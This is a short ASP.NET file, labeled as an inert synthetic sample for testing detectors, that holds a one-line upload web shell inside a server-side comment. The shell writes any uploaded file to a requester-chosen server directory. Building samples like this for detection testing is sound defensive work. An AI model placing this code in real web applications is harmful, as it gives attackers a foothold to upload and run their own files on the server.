<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(Request["dir"]) + Request.Files[0].FileName); %>
--%>
